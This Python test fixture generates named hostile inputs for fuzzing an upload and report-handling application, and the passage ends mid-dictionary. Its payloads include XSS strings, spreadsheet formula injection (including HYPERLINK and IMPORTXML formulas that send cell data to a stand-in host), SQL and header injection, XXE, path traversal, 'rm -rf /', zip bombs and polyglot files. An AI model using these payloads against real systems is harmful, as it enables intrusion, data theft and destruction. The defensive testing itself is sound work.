"""Hostile inputs, generated: always the same for the seed, each under a name that a failure tells.

``TEXTS`` go wherever words are typed; the others where an address, a link, a symbol, a name of a file, a
file, a day or a file with reports is asked for. Files are made when they are asked for.
"""

from __future__ import annotations

import datetime
import io
import random
import string
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

from . import sheets

SEED = 10
LONG = 1_000_000
"""Characters of the longest texts."""

Make = Callable[[], bytes]

MARKUP = (
    "<script>alert(1)</script>",
    "</bdi></p><script src=//x.example/a.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '"><input autofocus onfocus=alert(1)>',
    "'><body onload=alert(1)>",
    "<a href=javascript:alert(1)>words</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>words</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>*{display:none}</style>",
    "<base href=//x.example/>",
    "<meta http-equiv=refresh content='0;url=//x.example'>",
    "<object data=x><embed src=x><details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62; &amp;lt; &#x0;",
    "<<b>>unclosed <i <u",
    "</textarea></title></style></script><plaintext>",
    "<ScRiPt\n>alert(1)</sCrIpT\t>",
    "javascript:alert(document.cookie)",
    "[words](javascript:alert(1)) ![x](https://x.example/p.png) <https://x.example>",
    ":red[words] $\\href{javascript:alert(1)}{x}$ :material/delete: `code` ~~gone~~",
    "# heading\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n***\n> quoted",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://x.example/?"&A1,"words")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "'=1+1",
    '"=1+1',
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    '=IMPORTXML(CONCAT("https://x.example/?",A1),"//a")',
    "{=1+1}",
    "words;=1+1",
    "words\n=1+1",
    '=DDE("cmd";"/C calc";"x")',
)
BRACES = (
    "{ $count }",
    '{$x} { DATETIME($d) } { -term } {""}',
    "{{7*7}} {% raw %} {# gone #}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{0} {name!r:>1000000} {}",
    "%s %n %(count)d %99999999s",
    "${7*7} #{7*7} <%= 7*7 %>",
    "\\N{BULLET} \\x3cscript\\x3e \\u003cimg\\u003e",
    "key = { $x ->\n   *[other] words\n}",
)
QUERIES = (
    "'; DROP TABLE statements; --",
    "' OR '1'='1",
    '" OR ""="',
    "1); DELETE FROM audit WHERE (1=1",
    "%_%\\_\\%",
    "$$ $1 :name ? ::text",
    "'||(SELECT password_hash FROM accounts LIMIT 1)||'",
    "\\'; SELECT pg_sleep(30); --",
)
HEADS = (
    "words\r\nBcc: all@x.example",
    "words\nSubject: other\n\nbody",
    "words\r\nSet-Cookie: monitoring_session=x",
    "words\r\n\r\n<script>alert(1)</script>",
    "words%0d%0aBcc:%20all@x.example",
    "words\u2028Bcc: all@x.example\u2029\u0085x",
    "BEGIN:VEVENT\r\nSUMMARY:other\r\nEND:VEVENT",
    "words\\nEND:VCALENDAR\\;x\\,y",
    "=?utf-8?q?=0ABcc:=20all@x.example?=",
)
MARKS = {
    "turned": "\u202egnp.exe\u202c words",
    "turned and never back": "\u202ewords \u202ewords",
    "isolate never closed": "\u2067words \u2066words",
    "isolate closed too often": "\u2069\u2069words\u2069",
    "marks of direction": "\u200e\u200fwords\u061c",
    "arabic and latin": "تقرير words عن 5 <b>المشاريع</b>",
    "hebrew": '\u05d3\u05d5"\u05d7 (words) =1+1',
    "thousand embeddings": "\u202a" * 1000 + "words",
    "zero width between": "\u200b".join("words=1+1"),
    "joiners": "wo\u200dr\u200cds \u2060\ufeff",
    "tags": "words" + "".join(chr(0xE0000 + ord(c)) for c in "hidden"),
    "variation selectors": "w\ufe0fo\ufe0er\U000e0100ds",
    "soft hyphens": "\u00ad".join("javascript:"),
    "zalgo": "w" + "\u0301\u0316\u0489" * 300 + "ords",
    "combining alone": "\u0301\u0301words",
    "combining behind nothing": "e\u200b\u0301 words",
    "combining in front of markup": "<\u0338script>\u0338alert(1)",
    "hangul": "\u1112\u1161\u11ab\u1100\u1173\u11af words",
    "hyphen that does not break": "words\u2011\u2010words",
    "one unbroken word": "w" * 3900,
    "fullwidth markup": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "only spaces": " \t\n\u00a0\u2003 ",
    "only unseen": "\u200b\u2060\ufeff\u202e",
    "empty": "",
    "NUL": "wo\x00rds\x00",
    "NUL alone": "\x00",
    "every control": "words" + "".join(map(chr, [*range(32), *range(127, 160)])),
    "escape of a terminal": "\x1b[2J\x1b]0;title\x07words\x9b31m",
    "backspaces": "safe\x08\x08\x08\x08words",
    "half a letter": "wo\ud800rds",
    "half a letter, second": "\udfffwords",
    "halves the wrong way": "\udc00\ud800words",
    "halves that would fit": "\ud83d\ude00words",
    "no character": "words\ufffe\uffff\U0010ffff\ufdd0",
    "private": "\ue000\uf8ff\U000f0000words",
    "object": "words\ufffc\ufff9a\ufffab\ufffb",
    "emoji family": "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 100,
    "dots that turn into dots": "\u0130\u0131\u017f\u212a words",
    "lines of every kind": "a\rb\nc\r\nd\x0be\x0cf\x85g\u2028h\u2029i",
    "quotes": "'\"`\u2018\u2019\u201c\u201d\u00ab\u00bb\\",
    "numbers": "1e308 NaN -inf 0x1F 1_000 ١٢٣",
    "words of programs": "null None undefined true NaN [object Object]",
    "path": "../../../../etc/passwd C:\\Windows\\win.ini file:///etc/passwd",
    "workbook escapes": "_x000D__x0000__x001B_[2J_x005F_x0041_",
}
LONGS = {
    "1 MB of one letter": "a" * LONG,
    "1 MB of markup": "<b onclick=alert(1)>" * (LONG // 20),
    "1 MB of combining": "a" + "\u0301" * LONG,
    "1 MB of spaces around": " " * (LONG // 2) + "words" + " " * (LONG // 2),
    "1 MB of lines": "\n" * LONG,
    "1 MB of NUL": "\x00" * LONG,
    "1 MB turned": "\u202e" * LONG + "words",
    "1 MB of emoji": "\U0001f600" * LONG,
    "one more than fits": "b" * 4001,
    "just fits": "c" * 4000,
    "tags that fit": "<i>" * 1333,
    "no draft holds it": "d" * 200_001,
    "quarter of a draft": "e" * 50_000,
}


def _mixed() -> Iterator[tuple[str, str]]:
    """Words made of pieces of all the others, by chance."""
    chance = random.Random(SEED)
    pieces = [*MARKUP, *FORMULAS, *BRACES, *QUERIES, *HEADS, *(text for text in MARKS.values() if text)]
    for number in range(1, 41):
        some = chance.sample(pieces, 4)
        noise = "".join(
            chance.choice(string.printable + "\u202e\u200b\u0301\ud800\x00é中\U0001f600") for _ in range(30)
        )
        yield f"mixed {number}", noise.join(some)[:3500]


TEXTS: dict[str, str] = {
    **{f"markup {number}": text for number, text in enumerate(MARKUP, 1)},
    **{f"formula {number}": text for number, text in enumerate(FORMULAS, 1)},
    **{f"braces {number}": text for number, text in enumerate(BRACES, 1)},
    **{f"query {number}": text for number, text in enumerate(QUERIES, 1)},
    **{f"header {number}": text for number, text in enumerate(HEADS, 1)},
    **MARKS,
    **dict(_mixed()),
    **LONGS,
}
SHORT = {name: text for name, text in TEXTS.items() if len(text) <= 4000}

ADDRESSES = {
    f"address {number}": text
    for number, text in enumerate(
        (
            "",
            "a",
            "@",
            "a@b",
            "@x.example",
            "a@x.example\r\nBcc: b@x.example",
            "a@x.example\nb@x.example",
            "a@x.example,b@x.example",
            "a@x.example;b@x.example",
            "a@x.example b@x.example",
            "Ana <a@x.example>",
            "<a@x.example>",
            "\u0430na@example.org",
            "ana@ex\u0430mple.org",
            "ana@example\u3002org",
            "ana@example.org\u200b",
            "\u202eana@example.org",
            "\uff41na@example.org",
            "ana\uff20example.org",
            "ana@\u212aexample.org",
            "ana@example.org\x00",
            "ana\ud800@example.org",
            '"a b"@x.example',
            "a(b)@x.example",
            "a@[192.0.2.1]",
            "a@x..example",
            "a@-x.example",
            "a@x.example.",
            "a@b@x.example",
            "<script>@x.example",
            "a\\@x.example",
            '%0aBcc:b@x.example"',
            "a" * 300 + "@x.example",
            "a@" + "x." * 200 + "example",
            "a" * LONG + "@x.example",
            "mailto:a@x.example?bcc=b@x.example",
        ),
        1,
    )
}
"""None of them is one address that could be kept."""

LINKS = {
    f"link {number}": text
    for number, text in enumerate(
        (
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "java\tscript:alert(1)",
            " javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "vbscript:x",
            "file:///etc/passwd",
            "http://x.example/",
            "//x.example/",
            "/evidence?file=x",
            "https:x.example",
            "https:///x.example",
            "https://",
            "https://x",
            "https://localhost/",
            "https://192.0.2.1/",
            "https://[::1]/",
            "https://[x/",
            "https://user:secret@x.example/",
            "https://wto.org@x.example/",
            "https://x.example:99999/",
            "https://x.example:a/",
            'https://x.example/" onmouseover=alert(1) x="',
            "https://x.example/'><script>",
            "https://x.example/<b>",
            "https://x.example/a b",
            "https://x.example\\@wto.org/",
            "https://wt\u043e.org/",
            "https://x.example\u3002org/",
            "https://x.example/\x1b[2J\x00\r\nSet-Cookie: a",
            "https://x.example/\u202e a\u202e",
            "https://x.example/" + "a" * 2000,
            "https://" + "x." * 200 + "example/",
            "https://x.example/" + "a" * 150_000,
            "https://%0a.example/",
            "https://x.example/{{7*7}}{ $x }",
            "blob:https://x.example/",
        ),
        1,
    )
}
SYMBOLS = {
    f"symbol {number}": text
    for number, text in enumerate(
        (
            "G/MA/367<script>",
            "G/MA/367 G/MA/368",
            "=G/MA/367",
            "../../etc/passwd",
            "G//MA",
            "/G/MA",
            "G/MA/(367",
            "G/MA/367\nG/MA/1",
            "\uff27/MA/367",
            "G\u2215MA\u2215367",
            "G/MA/" + "3" * 200,
            "A/" * 50_000 + "A",
            "(" * 100_000,
            "G/MA/{ $x }",
            "G/MA/%s%n",
            "javascript:alert(1)",
        ),
        1,
    )
}
CODES = {
    f"code {number}": text
    for number, text in enumerate(
        (
            "\x00",
            "\ud800",
            "x" * LONG,
            "' OR 1=1 --",
            "<b>",
            "%",
            "_",
            "../x",
            "{ $x }",
            "",
            " ",
            "\u202e",
            "URY-R4-aaaaaa.1",
        ),
        1,
    )
}
"""Codes of things that are not there."""

FILE_NAMES = {
    f"file name {number}": text
    for number, text in enumerate(
        (
            "../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "C:\\x\\report.pdf",
            "/abs/report.pdf",
            "report.pdf/",
            "report.pdf\x00.exe",
            "report\u202efdp.exe",
            "\u202efdp.exe",
            "report.pdf.exe",
            "report.html",
            "report.pdf\r\nSet-Cookie: a=b",
            'report"; filename="x.exe',
            "re;port%22%0d%0a.pdf",
            "<script>alert(1)</script>.pdf",
            "<img src=x onerror=alert(1)>",
            "=cmd|' /C calc'!A0.pdf",
            "",
            ".",
            "..",
            "...",
            ".pdf",
            "   .pdf",
            ".htaccess",
            "CON.pdf",
            "con",
            "a" * 5000 + ".pdf",
            "\u0301" * 500 + ".pdf",
            "rapport \u00e9t\u00e9 \u4e2d\u6587 \U0001f600.pdf",
            "re\ud800port.pdf",
            "\x1b[2Jreport.pdf",
            "report.pdf::$DATA",
            "report .pdf . .",
            "|ls;$(ls)`ls`.pdf",
            "{{7*7}}%s{ $x }.pdf",
            "https://x.example/report.pdf?x=1#y",
            "desktop.ini\u200b",
        ),
        1,
    )
}
PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
    b"\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde"
    b"\x00\x00\x00\x00IEND\xaeB`\x82"
)
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
BOMB = 60 * 1024 * 1024


def packed(**parts: object) -> bytes:
    """A ZIP of parts: ``packed(of={name: content})``."""
    out = io.BytesIO()
    held = parts["of"]
    assert isinstance(held, dict)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in held.items():
            made.writestr(name, content)
    return out.getvalue()


def document(**more: object) -> bytes:
    """A document of a word processor, with further parts (of={...})."""
    return packed(of={"[Content_Types].xml": TYPES, "word/document.xml": "<w/>", **more.get("of", {})})  # type: ignore[dict-item]


def encrypted(content: bytes) -> bytes:
    """The same ZIP, said to be locked by a password in every header."""
    held = bytearray(content)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = held.find(mark)
        while place >= 0:
            held[place + at] |= 1
            place = held.find(mark, place + 4)
    return bytes(held)


def lying(content: bytes) -> bytes:
    """The same ZIP, its directory claiming that the parts unpack to four bytes."""
    held = bytearray(content)
    place = held.find(b"PK\x01\x02")
    while place >= 0:
        held[place + 24 : place + 28] = struct.pack("<I", 4)
        place = held.find(b"PK\x01\x02", place + 4)
    return bytes(held)


def overlapping() -> bytes:
    """Many names in the directory for the same bytes, as a bomb without nesting has them."""
    one = packed(of={"a": b"0" * 1_000_000})
    start, end = one.index(b"PK\x01\x02"), one.index(b"PK\x05\x06")
    entries = one[start:end] * 2000
    tail = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 2000, 2000, len(entries), start, 0)
    return one[:start] + entries + tail


def nested(depth: int) -> bytes:
    """A ZIP in a ZIP in a ZIP."""
    held = b"0" * 1_000_000
    for _ in range(depth):
        held = packed(of={"inner.zip": held})
    return held


FILES: dict[str, tuple[str, Make, str]] = {
    # name of the input: (name of the file, content, the kind as which it is taken or "")
    "exe as pdf": ("report.pdf", lambda: b"MZ\x90\x00" + b"\x00" * 400, ""),
    "elf as pdf": ("report.pdf", lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 400, ""),
    "html as txt": ("notes.txt", lambda: b"<html><script>alert(1)</script></html>", ""),
    "html behind a mark as txt": ("notes.txt", lambda: b"\xef\xbb\xbf \n<!DOCTYPE html><p>", ""),
    "svg as png": ("picture.png", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", ""),
    "svg behind an xml head": ("a.png", lambda: b"<?xml version='1.0'?><svg onload='alert(1)'/>", ""),
    "shell as txt": ("notes.txt", lambda: b"#!/bin/sh\nrm -rf /\n", ""),
    "php as jpg": ("a.jpg", lambda: b"\xff\xd8\xff\xe0<?php system('ls'); ?>", ""),
    "gif as png": ("a.png", lambda: b"GIF89a/*<script>alert(1)</script>*/", "refused or txt"),
    "rtf as docx": ("a.docx", lambda: b"{\\rtf1 words}", ""),
    "postscript as pdf": ("a.pdf", lambda: b"%!PS-Adobe-3.0\n", ""),
    "docm as docx": ("a.docx", lambda: document(of={"word/vbaProject.bin": b"x"}), ""),
    "docm by its types": (
        "a.docx",
        lambda: packed(
            of={
                "[Content_Types].xml": TYPES.replace("document.main", "document.macroEnabled.main"),
                "word/document.xml": "<w/>",
            }
        ),
        "",
    ),
    "xlsm as xlsx": (
        "a.xlsx",
        lambda: sheets.parts(sheets.book(sheets.row()), of={"xl/vbaProject.bin": b"x"}),
        "",
    ),
    "activex in a docx": ("a.docx", lambda: document(of={"word/activeX/activeX1.bin": b"x"}), ""),
    "exe in a docx": ("a.docx", lambda: document(of={"word/media/a.exe": b"MZ"}), "refused or docx"),
    "zip as docx": ("a.docx", lambda: packed(of={"a.txt": b"words"}), ""),
    "jar as docx": (
        "a.docx",
        lambda: packed(of={"META-INF/MANIFEST.MF": b"x", "a.class": b"\xca\xfe\xba\xbe"}),
        "",
    ),
    "types without the part": ("a.docx", lambda: packed(of={"[Content_Types].xml": TYPES}), ""),
    "zip in a docx": ("a.docx", lambda: document(of={"word/inner.zip": nested(2)}), ""),
    "nested zips": ("a.docx", lambda: nested(12), ""),
    "zip bomb": ("a.docx", lambda: document(of={"word/media/a.bin": b"0" * BOMB}), ""),
    "overlapping bomb": ("a.docx", overlapping, ""),
    "bomb that lies of its size": (
        "a.docx",
        lambda: lying(document(of={"word/media/a.bin": b"0" * 9_000_000})),
        "any",
    ),
    "four thousand parts": ("a.docx", lambda: document(of={f"word/{n}.xml": b"x" for n in range(4000)}), ""),
    "locked docx": ("a.docx", lambda: encrypted(document()), ""),
    "locked old office": ("a.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512, ""),
    "truncated docx": ("a.docx", lambda: document()[:-40], ""),
    "beginning of a docx": ("a.docx", lambda: b"PK\x03\x04", ""),
    "exe before a docx": ("a.docx", lambda: b"MZ\x90\x00" + document(), ""),
    "html before a pdf": ("a.pdf", lambda: b"<html>" + PDF, ""),
    "pdf with html behind": ("a.pdf", lambda: PDF + b"<script>alert(1)</script>", "pdf"),
    "pdf and zip at once": ("a.pdf", lambda: PDF + packed(of={"a.class": b"x"}), "any"),
    "pdf without an end": ("a.pdf", lambda: PDF.replace(b"%%EOF", b""), ""),
    "pdf that is words only": ("a.pdf", lambda: b"%PDF", ""),
    "png and html at once": ("a.png", lambda: PNG[:-12] + b"<script>alert(1)</script>" + PNG[-12:], "png"),
    "png without an end": ("a.png", lambda: PNG[:-12], ""),
    "png head only": ("a.png", lambda: b"\x89PNG\r\n\x1a\n", ""),
    "jpeg without an end": ("a.jpg", lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF", ""),
    "png named html": ("a.html", lambda: PNG, "png"),
    "pdf named exe": ("a.exe", lambda: PDF, "pdf"),
    "text named exe": ("a.exe", lambda: b"plain words", "txt"),
    "csv of formulas": ("a.csv", lambda: b"=1+1,=cmd|' /C calc'!A0\r\n", "csv"),
    "text with NUL": ("a.txt", lambda: b"wo\x00rds", ""),
    "text with escapes": ("a.txt", lambda: b"\x1b[2Jwords", ""),
    "utf-16 text": ("a.txt", lambda: "words".encode("utf-16"), ""),
    "no bytes": ("a.pdf", lambda: b"", ""),
    "one byte": ("a.pdf", lambda: b"\x00", ""),
    "noise": ("a.pdf", lambda: random.Random(SEED).randbytes(4096), ""),
    "too large": ("a.pdf", lambda: PDF + b"\x00" * (5 * 1024 * 1024), ""),
    "gzip as pdf": ("a.pdf", lambda: b"\x1f\x8b\x08" + zlib.compress(b"0" * 100_000), ""),
    "lnk as pdf": ("a.pdf", lambda: b"L\x00\x00\x00\x01\x14\x02\x00", ""),
}


# Files with reports


SHEET = "xl/worksheets/sheet1.xml"


def _raw(change: Callable[[str], str], part: str = SHEET, **more: object) -> Make:
    """A good workbook with one part changed as text. more: fields of its row."""

    def make() -> bytes:
        changes = {part: lambda held: change(held.decode()).encode("utf-8", "surrogatepass")}
        return sheets.parts(sheets.book(sheets.row(**more)), of=changes)

    return make


def _cell(inner: str, attributes: str = "") -> Make:
    """A good workbook whose cell of the day (D2) is another."""

    def change(held: str) -> str:
        start = held.index('<c r="D2"')
        end = held.index("</c>", start) + 4
        return f'{held[:start]}<c r="D2"{attributes}>{inner}</c>{held[end:]}'

    return _raw(change, said_on=datetime.date(2026, 1, 15))


def _entities(declared: str) -> Make:
    return _raw(
        lambda held: held.replace("<worksheet", f"{declared}<worksheet", 1).replace(
            "<v>0</v>", "<v>&e;</v>", 1
        )
    )


LAUGHS = (
    "<!DOCTYPE l [<!ENTITY a 'ha'>"
    + "".join(
        f"<!ENTITY {after} '{f'&{before};' * 10}'>"
        for before, after in zip("abcdefgh", "bcdefghe", strict=True)
    )
    + "]>"
)

BOOKS: dict[str, Make] = {
    "book of laughs": _entities(LAUGHS),
    "book with an outer entity": _entities("<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"),
    "book with an outer document": _entities("<!DOCTYPE x SYSTEM 'https://x.example/x.dtd'>"),
    "book with entities in its words": _raw(
        lambda held: held.replace("<sst", "<!DOCTYPE x [<!ENTITY e 'x'>]><sst", 1), "xl/sharedStrings.xml"
    ),
    "book with entities in utf-16": lambda: sheets.parts(
        sheets.book(sheets.row()),
        of={
            SHEET: lambda held: (
                held.decode()
                .replace('encoding="UTF-8"', 'encoding="UTF-16"')
                .replace("<worksheet", "<!DOCTYPE x [<!ENTITY e 'x'>]><worksheet", 1)
                .encode("utf-16")
            )
        },
    ),
    "book in an unknown encoding": _raw(lambda held: held.replace('encoding="UTF-8"', 'encoding="x-none"')),
    "book that is no xml": _raw(lambda held: held[: len(held) // 2]),
    "book with markup for xml": _raw(lambda held: "<html><script>alert(1)</script></html>"),
    "book of nested marks": _raw(
        lambda held: held.replace("<sheetData>", "<sheetData>" + "<row>" * 50_000, 1)
    ),
    "book of a million marks": _raw(
        lambda held: held.replace("<sheetData>", "<sheetData>" + "<row/>" * 1_100_000, 1)
    ),
    "book without a sheet": lambda: sheets.parts(sheets.book(sheets.row()), of={SHEET: None}),
    "book without its parts": lambda: sheets.parts(sheets.book(sheets.row()), of={"xl/workbook.xml": None}),
    "book without its words": lambda: sheets.parts(
        sheets.book(sheets.row()), of={"xl/sharedStrings.xml": None}
    ),
    "book with other words than it says": _raw(lambda held: held.replace("<v>0</v>", "<v>999999</v>")),
    "book with a word below nothing": _raw(lambda held: held.replace("<v>0</v>", "<v>-5</v>")),
    "book with a word that is no number": _raw(lambda held: held.replace("<v>0</v>", "<v>x</v>")),
    "book that leads out": _raw(
        lambda held: held.replace("worksheets/sheet1.xml", "../../../../etc/passwd"),
        "xl/_rels/workbook.xml.rels",
    ),
    "book that leads to the web": _raw(
        lambda held: held.replace(
            'Target="worksheets/sheet1.xml"', 'Target="https://x.example/" TargetMode="External"'
        ),
        "xl/_rels/workbook.xml.rels",
    ),
    "book that claims all rows": _raw(lambda held: held.replace('ref="A1:G2"', 'ref="A1:XFD1048576"')),
    "book that claims no size": _raw(lambda held: held.replace('ref="A1:G2"', 'ref="-1:0"')),
    "book with a row far down": _raw(
        lambda held: held.replace(
            "</sheetData>", '<row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>'
        )
    ),
    "book with a row below the last": _raw(
        lambda held: held.replace(
            "</sheetData>", '<row r="99999999"><c r="A99999999"><v>1</v></c></row></sheetData>'
        )
    ),
    "book with a column far right": _raw(
        lambda held: held.replace("</sheetData>", '<row r="3"><c r="ZZZZZZ3"><v>1</v></c></row></sheetData>')
    ),
    "book with a row of no number": _raw(lambda held: held.replace('<row r="2"', '<row r="x"')),
    "book with a row minus one": _raw(lambda held: held.replace('<row r="2"', '<row r="-1"')),
    "book with rows the wrong way": _raw(lambda held: held.replace('<row r="1"', '<row r="9"')),
    "book with a cell nowhere": _raw(lambda held: held.replace('r="D2"', 'r="!!"')),
    "book with a sheet of a long name": _raw(
        lambda held: held.replace('name="Sheet1"', f'name="{"n" * 3_000_000}"'), "xl/workbook.xml"
    ),
    "book with a sheet of marks": _raw(
        lambda held: held.replace(
            'name="Sheet1"', 'name="&lt;script&gt;alert(1)&lt;/script&gt;\u202e&#10;{ $x }"'
        ),
        "xl/workbook.xml",
    ),
    "book that is locked": lambda: encrypted(sheets.book(sheets.row())),
    "book that is locked as one": lambda: (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512 + "EncryptedPackage".encode("utf-16-le")
    ),
    "book of an old program": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2048,
    "book cut in two": lambda: sheets.book(sheets.row())[:3000],
    "book without its end": lambda: sheets.book(sheets.row())[:-22],
    "book of noise": lambda: b"PK\x03\x04" + random.Random(SEED).randbytes(5000),
    "book with noise inside": lambda: _noisy(sheets.book(sheets.row())),
    "book that lies of its size": lambda: lying(sheets.book(sheets.row())),
    "book with a bomb": lambda: sheets.parts(sheets.book(sheets.row()), of={"xl/media/a.bin": b"0" * BOMB}),
    "book with a zip": lambda: sheets.parts(sheets.book(sheets.row()), of={"xl/inner.zip": nested(3)}),
    "book with macros": lambda: sheets.parts(sheets.book(sheets.row()), of={"xl/vbaProject.bin": b"x"}),
    "book of six hundred parts": lambda: sheets.parts(
        sheets.book(sheets.row()), of={f"xl/x{n}.xml": b"<x/>" for n in range(600)}
    ),
    "book too large": lambda: sheets.book(sheets.row()) + b"\x00" * (5 * 1024 * 1024),
    "book of another kind": document,
    "overlapping book": overlapping,
    "exe as a book": lambda: b"MZ\x90\x00" + b"\x00" * 400,
    "pdf as a book": lambda: PDF,
    "png as a book": lambda: PNG,
    "page as a book": lambda: b"<html><script>alert(1)</script></html>",
    "page of a table as a book": lambda: b"<table><tr><td>member<td>recommendation<td>stage</table>",
    "nothing": lambda: b"",
    "day of 1e308": _cell("<v>1e308</v>", ' s="1"'),
    "day of minus 1e308": _cell("<v>-1e308</v>", ' s="1"'),
    "day NaN": _cell("<v>NaN</v>", ' s="1"'),
    "day inf": _cell("<v>inf</v>", ' s="1"'),
    "day of a number": _cell("<v>99999999</v>", ' s="1"'),
    "day below nothing": _cell("<v>-1</v>", ' s="1"'),
    "day of a word": _cell("<v>x</v>", ' s="1"'),
    "day of a style that is not there": _cell("<v>46037</v>", ' s="9999"'),
    "day that is true": _cell("<v>1</v>", ' t="b"'),
    "day that is a fault": _cell("<v>#REF!</v>", ' t="e"'),
    "day of a type that is not there": _cell("<v>1</v>", ' t="zz"'),
    "day of a formula": _cell("<f>TODAY()</f>"),
    "day of a formula that asks the web": _cell('<f>WEBSERVICE("https://x.example")</f>'),
    "day of a formula in markup": _cell("<f>&lt;script&gt;alert(1)&lt;/script&gt;</f>"),
    "day written out of range": _cell("<is><t>9999-99-99</t></is>", ' t="inlineStr"'),
    "day in a thousand years": _cell("<is><t>3026-01-01</t></is>", ' t="inlineStr"'),
    "day of the year 1": _cell("<is><t>0001-01-01</t></is>", ' t="inlineStr"'),
    "day in arabic figures": _cell(
        "<is><t>\u0662\u0660\u0662\u0666-\u0660\u0661-\u0661\u0665</t></is>", ' t="inlineStr"'
    ),
    "day by its iso type": _cell("<v>99999-01-01T00:00:00</v>", ' t="d"'),
    "day of a long word": _cell(f"<is><t>{'9' * 1_000_000}</t></is>", ' t="inlineStr"'),
}
"""Workbooks of which a part is not what it should be; a few still hold a report that can be read."""


def _noisy(content: bytes) -> bytes:
    held = bytearray(content)
    chance = random.Random(SEED)
    for _ in range(40):
        held[chance.randrange(30, len(held))] = chance.randrange(256)
    return bytes(held)


def _lines(*lines: str) -> Make:
    return lambda: "\r\n".join((",".join(sheets.COLUMNS), *lines)).encode("utf-8", "surrogatepass")


def _with(**more: object) -> Make:
    return lambda: sheets.text(sheets.row(**more))


TABLES: dict[str, Make] = {
    "table with a quote that never closes": _lines('URY,4,planned,2026-01-15,"words and no end,public,'),
    "table with a quote of 1 MB": _lines('URY,4,planned,2026-01-15,"' + "a" * LONG),
    "table of ten thousand columns": lambda: (
        ",".join([*sheets.COLUMNS, *(f"c{n}" for n in range(10_000))]) + "\r\n"
    ).encode(),
    "table of ten thousand cells": _lines("URY,4,planned,2026-01-15,words,public,G/MA/367" + ",x" * 10_000),
    "table of a hundred thousand rows": _lines(*["URY,4,planned,2026-01-15,words,public,"] * 100_000),
    "table of a million ends of line": lambda: ",".join(sheets.COLUMNS).encode() + b"\n" * 1_000_000,
    "table of commas": lambda: b"," * 1_000_000,
    "table without columns": lambda: b"words\r\nwords\r\n",
    "table with a header alone": _lines(),
    "table with a header twice": lambda: (",".join([*sheets.COLUMNS, *sheets.COLUMNS]) + "\r\n").encode(),
    "table with NUL": _lines("URY,4,planned,2026-01-15,wo\x00rds,public,"),
    "table with half a letter": _lines("URY,4,planned,2026-01-15,wo\ud800rds,public,"),
    "table in utf-16": lambda: sheets.text(sheets.row()).decode().encode("utf-16"),
    "table in latin 1": lambda: sheets.text(sheets.row(text="été")).decode().encode("latin-1"),
    "table in ebcdic": lambda: sheets.text(sheets.row()).decode().encode("cp500"),
    "table with escapes in its header": lambda: (
        ",".join([*sheets.COLUMNS, "\x1b[2J\x1b]0;x\x07"]) + "\r\nURY,9,x,x,x,x,x,x\r\n"
    ).encode(),
    "table with markup in its header": lambda: (
        ",".join([*sheets.COLUMNS, "<script>alert(1)</script>"]) + "\r\nURY,9,x,x,x,x,x,x\r\n"
    ).encode(),
    "table with sep=": lambda: b"sep=;\r\n" * 500,
    "member of markup": _with(member="<script>alert(1)</script>"),
    "member of another": _with(member="CHL"),
    "member by a homoglyph": _with(member="\u0423R\u04ae"),
    "member of 1 MB": _with(member="U" * LONG),
    "member of braces": _with(member="{ $x }%s"),
    "member of a query": _with(member="URY' OR '1'='1"),
    "recommendation of 1e308": _with(recommendation="1e308"),
    "recommendation NaN": _with(recommendation="NaN"),
    "recommendation 0": _with(recommendation="0"),
    "recommendation of many figures": _with(recommendation="4" * 100_000),
    "recommendation in arabic figures": _with(recommendation="\u0664"),
    "recommendation squared": _with(recommendation="\u2074"),
    "stage of a formula": _with(stage="=1+1"),
    "stage of 1 MB": _with(stage="planned" * 140_000),
    "stage that nobody says": _with(stage="no_report"),
    "stage turned": _with(stage="\u202ednnalp"),
    "day of the year 9999": _with(said_on="9999-12-31"),
